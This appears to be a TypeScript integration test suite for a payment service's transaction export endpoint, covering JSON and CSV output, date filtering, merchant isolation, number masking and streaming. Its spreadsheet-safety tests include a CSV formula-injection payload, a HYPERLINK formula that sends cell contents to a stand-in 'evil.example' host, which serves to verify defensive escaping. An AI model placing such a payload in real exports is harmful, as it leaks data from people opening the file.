import { randomUUID } from 'node:crypto';
import pg from 'pg';
import { waitFor } from '@mm/testing';
import type { ApiResponse } from '@mm/testing';
import { CI_NUMBER, startSystem, type System } from './support/system.js';
import { anotherMerchant, expectError, expectValidationError, newOrderId, signedHeaders } from './support/contract.js';

/**
 * GET /api/v1/transactions/export (decisions 8): rows written straight into the database with SQL,
 * exported as JSON and CSV.
 */
let sys: System;
let sql: pg.Pool;
/** Where the export is served. */
let baseUrl: string;
let api: System['api'];
let other: { id: string; api: System['api'] };

beforeAll(async () => {
  sys = await startSystem();
  sql = new pg.Pool({ connectionString: sys.database.url, max: 3 });
  baseUrl = sys.gatewayUrl;
  api = sys.api;
  other = await anotherMerchant(sys);
});
afterAll(async () => {
  await sql?.end();
  await sys?.stop();
});

const EXPORT = '/api/v1/transactions/export';
const get = (query: string, client = api) => client('GET', `${EXPORT}?${query}`);

interface Fixture {
  id?: string;
  merchantId?: string;
  order: string;
  status?: string;
  amount?: number;
  country?: 'CI' | 'SN' | 'CM';
  msisdn?: string;
  createdAt: string;
  updatedAt?: string;
  completedAt?: string | null;
  providerTxId?: string | null;
  providerSessionId?: string | null;
  providerState?: string | null;
  providerTxnStatus?: string | null;
  failureCode?: string | null;
  failureReason?: string | null;
  refunded?: number;
  operator?: string;
  paymentLinkId?: string | null;
}

/** One transaction row written with SQL, as the services would have left it. */
async function insert(f: Fixture): Promise<string> {
  const id = f.id ?? randomUUID();
  const refunded = f.refunded ?? 0;
  await sql.query(
    `INSERT INTO transactions (id, merchant_id, merchant_order_id, type, status, amount, currency, country_code, msisdn,
       motif, metadata, request_fingerprint, provider_reference, provider_tx_id, provider_session_id, provider_state,
       provider_txn_status, failure_code, failure_reason, refunded_amount, refund_reserved_amount, completed_at, created_at, updated_at, operator,
       payment_link_id)
     VALUES ($1, $2, $3, 'CASHIN', $4, $5, $6, $7, $8, 'not exported, even with, commas', '{"cart": "=not exported"}', 'fp', $9, $10, $11, $12,
       $13, $14, $15, $16, $16, $17, $18, $19, $20, $21)`,
    [
      id,
      f.merchantId ?? sys.merchant.id,
      f.order,
      f.status ?? 'SUCCESS',
      f.amount ?? 5000,
      f.country === 'CM' ? 'XAF' : 'XOF',
      f.country ?? 'CI',
      f.msisdn ?? '+2250707000001',
      `REF-${id}`,
      f.providerTxId ?? null,
      f.providerSessionId ?? null,
      f.providerState ?? null,
      f.providerTxnStatus ?? null,
      f.failureCode ?? null,
      f.failureReason ?? null,
      refunded,
      f.completedAt ?? null,
      f.createdAt,
      f.updatedAt ?? f.createdAt,
      f.operator ?? 'SIMULATOR',
      f.paymentLinkId ?? null,
    ],
  );
  return id;
}

const CSV_HEADER =
  'transaction_id,merchant_order_id,type,status,amount,currency,country_code,payment_method,provider_reference,' +
  'provider_tx_id,provider_session_id,provider_state,provider_txn_status,failure_code,failure_reason,refunded_amount,completed_at,' +
  'msisdn,created_at,updated_at,operator,payment_link_id';

/** A strict RFC 4180 reader: every record ends with CRLF, no bare CR or LF outside quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '' && !wasQuoted) {
      quoted = true;
      wasQuoted = true;
    } else if (c === ',') {
      record.push(cell);
      cell = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      wasQuoted = false;
      i++;
    } else if (c === '\r' || c === '\n' || c === '"') throw new Error(`unexpected ${JSON.stringify(c)} at ${i}`);
    else cell += c;
  }
  if (quoted || cell !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

/** What a CSV cell must hold for a JSON value: text, formula-looking text behind a quote. */
const asCell = (v: unknown) =>
  v === null ? '' : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v);

describe('GET /api/v1/transactions/export', () => {
  // February 2026 of the merchant: four rows inside, one on either side, and another merchant's row.
  const A1 = 'a0000000-0000-4000-8000-000000000001';
  const A2 = 'a0000000-0000-4000-8000-000000000002';
  const A3 = 'a0000000-0000-4000-8000-000000000003';
  const A4 = 'a0000000-0000-4000-8000-000000000004';
  /** The payment link order-a2 was paid through. */
  const LINK = 'b0000000-0000-4000-8000-000000000001';
  const row1 = {
    transaction_id: A1,
    merchant_order_id: 'order-a1',
    type: 'CASHIN',
    status: 'SUCCESS',
    amount: 5000,
    currency: 'XOF',
    country_code: 'CI',
    payment_method: 'USSD_PUSH',
    provider_reference: `REF-${A1}`,
    provider_tx_id: 'OP-A1',
    provider_session_id: 'SESS-A1',
    provider_state: 'OK',
    provider_txn_status: '200',
    failure_code: null,
    failure_reason: null,
    refunded_amount: 0,
    completed_at: '2026-02-01T00:00:03.000Z',
    msisdn: '+22507******01',
    created_at: '2026-02-01T00:00:00.000Z',
    updated_at: '2026-02-01T00:00:03.000Z',
    operator: 'SIMULATOR',
    payment_link_id: null,
  };
  const row2 = {
    transaction_id: A2,
    merchant_order_id: 'order-a2',
    type: 'CASHIN',
    status: 'FAILED',
    amount: 12500,
    currency: 'XOF',
    country_code: 'SN',
    payment_method: 'USSD_PUSH',
    provider_reference: `REF-${A2}`,
    provider_tx_id: null,
    provider_session_id: 'SESS-A2',
    provider_state: 'canceled',
    provider_txn_status: '54321',
    failure_code: 'INSUFFICIENT_BALANCE',
    failure_reason: '60019',
    refunded_amount: 0,
    completed_at: '2026-02-10T08:30:07.250Z',
    msisdn: '+22177*****02',
    created_at: '2026-02-10T08:30:00.000Z',
    updated_at: '2026-02-10T08:30:07.250Z',
    operator: 'ORANGE',
    payment_link_id: LINK,
  };
  const row3 = {
    transaction_id: A3,
    merchant_order_id: 'order-a3',
    type: 'CASHIN',
    status: 'CREATED',
    amount: 700,
    currency: 'XAF',
    country_code: 'CM',
    payment_method: 'USSD_PUSH',
    provider_reference: `REF-${A3}`,
    provider_tx_id: null,
    provider_session_id: null,
    provider_state: 'PENDING',
    provider_txn_status: null,
    failure_code: null,
    failure_reason: null,
    refunded_amount: 0,
    completed_at: null,
    msisdn: '+23767*****56',
    created_at: '2026-02-20T12:00:00.000Z',
    updated_at: '2026-02-20T12:00:00.000Z',
    operator: 'SIMULATOR',
    payment_link_id: null,
  };
  const row4 = {
    transaction_id: A4,
    merchant_order_id: 'order-a4',
    type: 'CASHIN',
    status: 'REVERSED',
    amount: 9000,
    currency: 'XOF',
    country_code: 'CI',
    payment_method: 'USSD_PUSH',
    provider_reference: `REF-${A4}`,
    provider_tx_id: 'OP-A4',
    provider_session_id: 'SESS-A4',
    provider_state: 'OK',
    provider_txn_status: '200',
    failure_code: null,
    failure_reason: null,
    refunded_amount: 9000,
    completed_at: '2026-02-28T23:59:59.999Z',
    msisdn: '+22507******09',
    created_at: '2026-02-28T23:59:59.999Z',
    updated_at: '2026-03-02T10:00:00.000Z',
    operator: 'SIMULATOR',
    payment_link_id: null,
  };

  beforeAll(async () => {
    await sql.query(
      `INSERT INTO payment_links (id, merchant_id, slug, description, country_code, currency, amount, reusable, max_payments)
       VALUES ($1, $2, 'exportLinkSlug00000000', 'Robe wax taille M', 'SN', 'XOF', 12500, false, 1)`,
      [LINK, sys.merchant.id],
    );
    await insert({ order: 'order-jan', createdAt: '2026-01-31T23:59:59.999Z' });
    await insert({
      id: A1,
      order: 'order-a1',
      createdAt: '2026-02-01T00:00:00.000Z',
      updatedAt: '2026-02-01T00:00:03.000Z',
      completedAt: '2026-02-01T00:00:03.000Z',
      providerTxId: 'OP-A1',
      providerSessionId: 'SESS-A1',
      providerState: 'OK',
      providerTxnStatus: '200',
    });
    await insert({
      id: A2,
      order: 'order-a2',
      status: 'FAILED',
      amount: 12500,
      country: 'SN',
      msisdn: '+221771234502',
      createdAt: '2026-02-10T08:30:00.000Z',
      updatedAt: '2026-02-10T08:30:07.250Z',
      completedAt: '2026-02-10T08:30:07.250Z',
      providerSessionId: 'SESS-A2',
      providerState: 'canceled',
      providerTxnStatus: '54321',
      failureCode: 'INSUFFICIENT_BALANCE',
      failureReason: '60019',
      operator: 'ORANGE',
      paymentLinkId: LINK,
    });
    await insert({
      id: A3,
      order: 'order-a3',
      status: 'CREATED',
      amount: 700,
      country: 'CM',
      msisdn: '+237677123456',
      createdAt: '2026-02-20T12:00:00.000Z',
    });
    await insert({
      id: A4,
      order: 'order-a4',
      status: 'REVERSED',
      amount: 9000,
      msisdn: '+2250707000009',
      createdAt: '2026-02-28T23:59:59.999Z',
      updatedAt: '2026-03-02T10:00:00.000Z',
      completedAt: '2026-02-28T23:59:59.999Z',
      providerTxId: 'OP-A4',
      providerSessionId: 'SESS-A4',
      providerState: 'OK',
      providerTxnStatus: '200',
      refunded: 9000,
    });
    await insert({ order: 'order-mar', createdAt: '2026-03-01T00:00:00.000Z' });
    await insert({ merchantId: other.id, order: 'order-other', createdAt: '2026-02-15T00:00:00.000Z' });
  });

  describe('JSON', () => {
    it('returns the rows of the inclusive date range, in created_at order, and meta with the count', async () => {
      const res = await get('date_from=2026-02-01&date_to=2026-02-28');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(res.headers.get('x-request-id')).toEqual(expect.any(String));
      expect(res.body).toEqual({
        data: [row1, row2, row3, row4],
        meta: { count: 4, date_from: '2026-02-01', date_to: '2026-02-28' },
      });
      expect(Object.keys(res.body.data[0])).toEqual(Object.keys(row1));
      expect(res.text).not.toContain('0707000001');
    });

    it('is json by default and with format=json', async () => {
      expect((await get('date_from=2026-02-01&date_to=2026-02-28&format=json')).body).toEqual(
        (await get('date_from=2026-02-01&date_to=2026-02-28')).body,
      );
    });

    it('filters on country_code and says so in meta', async () => {
      const res = await get('date_from=2026-02-01&date_to=2026-02-28&country_code=CI');
      expect(res.body).toEqual({
        data: [row1, row4],
        meta: { count: 2, date_from: '2026-02-01', date_to: '2026-02-28', country_code: 'CI' },
      });
      expect((await get('date_from=2026-02-01&date_to=2026-02-28&country_code=GA')).body).toEqual({
        data: [],
        meta: { count: 0, date_from: '2026-02-01', date_to: '2026-02-28', country_code: 'GA' },
      });
    });

    it('includes both bound days entirely and nothing outside them', async () => {
      const ids = async (q: string) =>
        (await get(q)).body.data.map((r: { merchant_order_id: string }) => r.merchant_order_id);
      expect(await ids('date_from=2026-02-01&date_to=2026-02-01')).toEqual(['order-a1']);
      expect(await ids('date_from=2026-02-28&date_to=2026-02-28')).toEqual(['order-a4']);
      expect(await ids('date_from=2026-01-31&date_to=2026-01-31')).toEqual(['order-jan']);
      expect(await ids('date_from=2026-03-01&date_to=2026-03-01')).toEqual(['order-mar']);
      expect(await ids('date_from=2026-01-31&date_to=2026-03-01')).toEqual([
        'order-jan',
        'order-a1',
        'order-a2',
        'order-a3',
        'order-a4',
        'order-mar',
      ]);
      expect(await ids('date_from=2026-02-02&date_to=2026-02-27')).toEqual(['order-a2', 'order-a3']);
    });

    it("never shows another merchant's rows, and shows that merchant only its own", async () => {
      const mine = await get('date_from=2026-02-15&date_to=2026-02-15');
      expect(mine.body).toEqual({ data: [], meta: { count: 0, date_from: '2026-02-15', date_to: '2026-02-15' } });
      const theirs = await get('date_from=2026-02-01&date_to=2026-02-28', other.api);
      expect(theirs.body.data.map((r: { merchant_order_id: string }) => r.merchant_order_id)).toEqual(['order-other']);
      expect(theirs.body.meta.count).toBe(1);
    });

    it('exports a cash-in made through the API as its status response (without customer_action) plus the export fields', async () => {
      const created = await sys.api('POST', '/api/v1/payments/cashin', {
        merchant_order_id: newOrderId('export'),
        amount: 4200,
        customer_msisdn: CI_NUMBER('06'),
      });
      expect(created.status).toBe(202);
      const id = created.body.data.transaction_id as string;
      const status = (await sys.api('GET', `/api/v1/payments/${id}`)).body.data;
      const today = new Date();
      const day = (offset: number) => new Date(today.getTime() + offset * 86_400_000).toISOString().slice(0, 10);
      const res = await get(`date_from=${day(-1)}&date_to=${day(1)}`);
      const row = res.body.data.find((r: { transaction_id: string }) => r.transaction_id === id);
      const { customer_action, ...exported } = status;
      expect(customer_action).toEqual({ type: 'NONE' });
      expect(row).toEqual({
        ...exported,
        msisdn: created.body.data.msisdn,
        created_at: created.body.data.created_at,
        updated_at: expect.any(String),
      });
      expect(row).toMatchObject({ msisdn: '+22507******06', operator: 'SIMULATOR' });
    });
  });

  describe('CSV', () => {
    it('returns the header and exactly these lines, as an attachment', async () => {
      const res = await get('date_from=2026-02-01&date_to=2026-02-28&format=csv');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        'attachment; filename="transactions_2026-02-01_2026-02-28.csv"',
      );
      // Masked numbers start with +: like any cell that could start a formula, they get the quote prefix.
      expect(res.text).toBe(
        [
          CSV_HEADER,
          `${A1},order-a1,CASHIN,SUCCESS,5000,XOF,CI,USSD_PUSH,REF-${A1},OP-A1,SESS-A1,OK,200,,,0,2026-02-01T00:00:03.000Z,'+22507******01,2026-02-01T00:00:00.000Z,2026-02-01T00:00:03.000Z,SIMULATOR,`,
          `${A2},order-a2,CASHIN,FAILED,12500,XOF,SN,USSD_PUSH,REF-${A2},,SESS-A2,canceled,54321,INSUFFICIENT_BALANCE,60019,0,2026-02-10T08:30:07.250Z,'+22177*****02,2026-02-10T08:30:00.000Z,2026-02-10T08:30:07.250Z,ORANGE,${LINK}`,
          `${A3},order-a3,CASHIN,CREATED,700,XAF,CM,USSD_PUSH,REF-${A3},,,PENDING,,,,0,,'+23767*****56,2026-02-20T12:00:00.000Z,2026-02-20T12:00:00.000Z,SIMULATOR,`,
          `${A4},order-a4,CASHIN,REVERSED,9000,XOF,CI,USSD_PUSH,REF-${A4},OP-A4,SESS-A4,OK,200,,,9000,2026-02-28T23:59:59.999Z,'+22507******09,2026-02-28T23:59:59.999Z,2026-03-02T10:00:00.000Z,SIMULATOR,`,
          '',
        ].join('\r\n'),
      );
    });

    it('holds the same values as the JSON export', async () => {
      const json = (await get('date_from=2026-01-31&date_to=2026-03-01')).body.data as Record<string, unknown>[];
      const [header, ...records] = parseCsv((await get('date_from=2026-01-31&date_to=2026-03-01&format=csv')).text);
      expect(header).toEqual(Object.keys(json[0]!));
      expect(records).toEqual(json.map((r) => Object.values(r).map(asCell)));
    });

    it('filters on country_code and names the file after the dates', async () => {
      const res = await get('date_from=2026-02-10&date_to=2026-02-20&format=csv&country_code=SN');
      expect(res.headers.get('content-disposition')).toBe(
        'attachment; filename="transactions_2026-02-10_2026-02-20.csv"',
      );
      expect(parseCsv(res.text).map((r) => r[1])).toEqual(['merchant_order_id', 'order-a2']);
    });

    it('is just the header line when nothing matches', async () => {
      expect((await get('date_from=2025-06-01&date_to=2025-06-30&format=csv')).text).toBe(`${CSV_HEADER}\r\n`);
    });

    it("never shows another merchant's rows", async () => {
      const res = await get('date_from=2026-02-01&date_to=2026-02-28&format=csv', other.api);
      expect(parseCsv(res.text).map((r) => r[1])).toEqual(['merchant_order_id', 'order-other']);
    });
  });

  describe('spreadsheet safety and RFC 4180 quoting', () => {
    const tricky = [
      [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
      ],
      ['+1', `'+1`],
      ['-2', `'-2`],
      ['@x', `'@x`],
      ['\tcmd', `'\tcmd`],
      ['\r=1', `"'\r=1"`],
      ['=1+1', `'=1+1`],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['two\nlines', '"two\nlines"'],
      ['crlf\r\nlines', '"crlf\r\nlines"'],
      ['a=b-c+d@e', 'a=b-c+d@e'],
    ] as const;

    beforeAll(async () => {
      let ms = 0;
      for (const [order] of tricky)
        await insert({ order, createdAt: new Date(Date.UTC(2026, 3, 1, 9, 0, 0, ms++)).toISOString() });
      await insert({
        order: 'failed-formula',
        status: 'FAILED',
        failureCode: 'UNKNOWN',
        failureReason: '-1,"x"',
        createdAt: '2026-04-01T10:00:00.000Z',
      });
    });

    it.each(tricky)('writes merchant_order_id %j as the cell %j', async (order, cell) => {
      const res = await get('date_from=2026-04-01&date_to=2026-04-01&format=csv');
      // The cell sits between the transaction id and ",CASHIN,".
      expect(res.text).toMatch(
        new RegExp(`\\r\\n[0-9a-f-]{36},${cell.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},CASHIN,`),
      );
    });

    it('reads back to the exact values (quote prefix aside) with an RFC 4180 parser', async () => {
      const json = (await get('date_from=2026-04-01&date_to=2026-04-01')).body.data as Record<string, unknown>[];
      expect(json.map((r) => r.merchant_order_id)).toEqual([...tricky.map(([o]) => o), 'failed-formula']);
      const [, ...records] = parseCsv((await get('date_from=2026-04-01&date_to=2026-04-01&format=csv')).text);
      expect(records).toEqual(json.map((r) => Object.values(r).map(asCell)));
      expect(records.map((r) => r[1])).toEqual([...tricky.map(([o]) => asCell(o)), 'failed-formula']);
      expect(records.at(-1)![14]).toBe(`'-1,"x"`);
    });

    it('leaves the JSON values untouched', async () => {
      const json = (await get('date_from=2026-04-01&date_to=2026-04-01')).body.data as {
        merchant_order_id: string;
        failure_reason: string | null;
      }[];
      expect(json[0]!.merchant_order_id).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
      expect(json.at(-1)!.failure_reason).toBe('-1,"x"');
    });

    it('exports neither motif nor metadata', async () => {
      const res = await get('date_from=2026-04-01&date_to=2026-04-01&format=csv');
      expect(res.text).not.toContain('not exported');
      expect((await get('date_from=2026-04-01&date_to=2026-04-01')).text).not.toContain('not exported');
    });
  });

  describe('validation', () => {
    it.each([
      ['', ['date_from', 'date_to']],
      ['date_to=2026-02-01', ['date_from']],
      ['date_from=2026-02-01', ['date_to']],
      ['date_from=2026-2-01&date_to=2026-02-28', ['date_from']],
      ['date_from=2026-02-01&date_to=28/02/2026', ['date_to']],
      ['date_from=2026-02-29&date_to=2026-03-01', ['date_from']],
      ['date_from=2026-02-01&date_to=2026-02-30', ['date_to']],
      ['date_from=2026-02-01T00:00:00Z&date_to=2026-02-28', ['date_from']],
      ['date_from=2026-03-01&date_to=2026-02-28', ['date_to']],
      ['date_from=2025-01-01&date_to=2026-01-02', ['date_to']],
      ['date_from=2026-02-01&date_to=2026-02-28&format=xml', ['format']],
      ['date_from=2026-02-01&date_to=2026-02-28&format=', ['format']],
      ['date_from=2026-02-01&date_to=2026-02-28&format=CSV', ['format']],
      ['date_from=2026-02-01&date_to=2026-02-28&country_code=ci', ['country_code']],
      ['date_from=2026-02-01&date_to=2026-02-28&country_code=CIV', ['country_code']],
      ['date_from=2026-02-01&date_to=2026-02-28&page=2', ['page']],
      ['date_from=2026-02-01&date_to=2026-02-28&date_from=2026-02-02', ['date_from']],
    ])('refuses ?%s with 400 VALIDATION_ERROR naming %j', async (query, fields) => {
      const res = await get(query);
      const details = expectValidationError(res, fields[0]!);
      expect([...new Set(details.map((d) => d.field))].sort()).toEqual([...fields].sort());
      expect(res.headers.get('content-disposition')).toBeNull();
    });

    it('allows 366 days, both ends included', async () => {
      expect((await get('date_from=2025-01-01&date_to=2026-01-01')).status).toBe(200);
      expect((await get('date_from=2024-01-01&date_to=2024-12-31&format=csv')).status).toBe(200);
    });

    it('requires authentication', async () => {
      const res = await api('GET', `${EXPORT}?date_from=2026-02-01&date_to=2026-02-28`, undefined, { headers: {} });
      expectError(res, 401, 'AUTHENTICATION_REQUIRED');
    });
  });

  describe('volume and streaming', () => {
    const ROWS = 20_000;
    const Q = 'date_from=2026-06-01&date_to=2026-06-30';

    beforeAll(async () => {
      // 20 000 rows of the merchant over June 2026 (several per millisecond: id breaks the ties), and
      // 500 of another merchant in between.
      await sql.query(
        `INSERT INTO transactions (merchant_id, merchant_order_id, type, status, amount, currency, country_code, msisdn, request_fingerprint, provider_reference, created_at, updated_at)
         SELECT $1, 'bulk-' || g, 'CASHIN', 'SUCCESS', 100 + g, 'XOF', 'CI', '+2250707000001', 'fp', 'BULK-' || g,
                '2026-06-01T00:00:00Z'::timestamptz + (g / 3) * interval '1 second', '2026-06-01T00:00:00Z'::timestamptz
         FROM generate_series(1, $2::int) g`,
        [sys.merchant.id, ROWS],
      );
      await sql.query(
        `INSERT INTO transactions (merchant_id, merchant_order_id, type, status, amount, currency, country_code, msisdn, request_fingerprint, provider_reference, created_at)
         SELECT $1, 'other-' || g, 'CASHIN', 'SUCCESS', 100, 'XOF', 'CI', '+2250707000001', 'fp', 'OTHER-' || g, '2026-06-01T00:00:00Z'::timestamptz + g * interval '7 second'
         FROM generate_series(1, 500) g`,
        [other.id],
      );
    });

    it(`exports ${ROWS} rows as JSON, all of them, in (created_at, id) order`, async () => {
      const res = await get(Q);
      expect(res.status).toBe(200);
      const { data, meta } = res.body as {
        data: { transaction_id: string; merchant_order_id: string; created_at: string }[];
        meta: { count: number };
      };
      expect(meta).toEqual({ count: ROWS, date_from: '2026-06-01', date_to: '2026-06-30' });
      expect(data).toHaveLength(ROWS);
      expect(new Set(data.map((r) => r.merchant_order_id)).size).toBe(ROWS);
      expect(data.every((r) => r.merchant_order_id.startsWith('bulk-'))).toBe(true);
      for (let i = 1; i < data.length; i++) {
        const [a, b] = [data[i - 1]!, data[i]!];
        expect(
          a.created_at < b.created_at || (a.created_at === b.created_at && a.transaction_id < b.transaction_id),
        ).toBe(true);
      }
    });

    it(`exports ${ROWS} rows as CSV`, async () => {
      const res = await get(`${Q}&format=csv`);
      const records = parseCsv(res.text);
      expect(records).toHaveLength(ROWS + 1);
      expect(records[0]!.join(',')).toBe(CSV_HEADER);
      expect(records.slice(1).every((r) => r.length === 22 && r[1]!.startsWith('bulk-'))).toBe(true);
    });

    /** The export backend of this database that is still busy (running or holding its cursor open). */
    async function exportBackends(): Promise<{ pid: number; state: string }[]> {
      const { rows } = await sql.query(
        `SELECT pid, state FROM pg_stat_activity
         WHERE datname = current_database() AND pid <> pg_backend_pid() AND state <> 'idle' AND query LIKE 'SELECT id, merchant_order_id%'`,
      );
      return rows as { pid: number; state: string }[];
    }

    async function startDownload(query: string) {
      const res = await fetch(`${baseUrl}${EXPORT}?${query}`, {
        headers: signedHeaders(sys.merchant.apiKey, sys.merchant.apiSecret, ''),
      });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      const first = await reader.read();
      expect(first.done).toBe(false);
      return { reader, received: first.value!.length };
    }

    it('holds the cursor while the client does not read (backpressure) and frees it when the client goes away', async () => {
      const { reader } = await startDownload(Q);
      // The client reads nothing more: the export waits on its cursor instead of reading ahead.
      const [busy] = await waitFor(async () => ((await exportBackends()).length === 1 ? exportBackends() : undefined), {
        what: 'export in progress',
      });
      await new Promise((r) => setTimeout(r, 300));
      expect((await exportBackends()).map((b) => b.pid)).toEqual([busy!.pid]);
      await reader.cancel();
      await waitFor(async () => (await exportBackends()).length === 0, { what: 'export connection released' });
      // The service still exports.
      expect((await get('date_from=2026-02-01&date_to=2026-02-28')).body.meta.count).toBe(4);
    });

    it('destroys the response when the database fails half-way: a truncated download, never a complete-looking one', async () => {
      const { reader } = await startDownload(Q);
      const [busy] = await waitFor(async () => ((await exportBackends()).length === 1 ? exportBackends() : undefined), {
        what: 'export in progress',
      });
      await sql.query('SELECT pg_terminate_backend($1)', [busy!.pid]);
      let failed: unknown = null;
      try {
        for (;;) {
          const { done } = await reader.read();
          if (done) break;
        }
      } catch (err) {
        failed = err;
      }
      // undici's way of saying the chunked body stopped without its final chunk.
      expect(String(failed)).toMatch(/terminated/);
      // The service still exports.
      await waitFor(async () => (await get('date_from=2026-02-01&date_to=2026-02-28')).body?.meta?.count === 4, {
        what: 'exports working again',
      });
    });

    it('answers an export of an empty range with a complete empty document', async () => {
      const res: ApiResponse = await get('date_from=2020-01-01&date_to=2020-12-31');
      expect(res.body).toEqual({ data: [], meta: { count: 0, date_from: '2020-01-01', date_to: '2020-12-31' } });
    });
  });

  it('answers an unknown sub-path 404 like any unknown endpoint', async () => {
    expectError(await api('GET', `${EXPORT}/x?date_from=2026-02-01&date_to=2026-02-28`), 404, 'NOT_FOUND');
  });
});
